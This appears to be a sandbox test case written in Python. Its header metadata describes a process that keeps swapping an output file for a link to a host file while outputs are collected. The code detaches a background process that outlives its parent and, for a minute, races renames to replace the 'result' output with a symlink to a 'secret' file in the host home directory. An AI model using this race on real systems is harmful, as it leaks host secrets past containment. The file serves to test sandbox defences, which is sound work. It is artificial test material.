# promise: 11
# tries: a process that goes on swapping an output for a link to a host file while it is collected
# refused: left-out
# record: end exited 0
# proof: bare
# judge: outputs
# within: 20
import os
import time
from attack import aim

os.chdir(os.environ["AIDO_OUTPUTS"])
if os.fork():
    time.sleep(0.3)
    os._exit(0)
os.setsid()
end = time.monotonic() + 60
os.symlink(os.path.join(aim("HOME"), "secret"), "link")
while time.monotonic() < end:
    with open("file", "w") as file:
        file.write("x" * 65536)
    os.rename("file", "result")
    os.symlink(os.path.join(aim("HOME"), "secret"), "next")
    os.rename("next", "result")
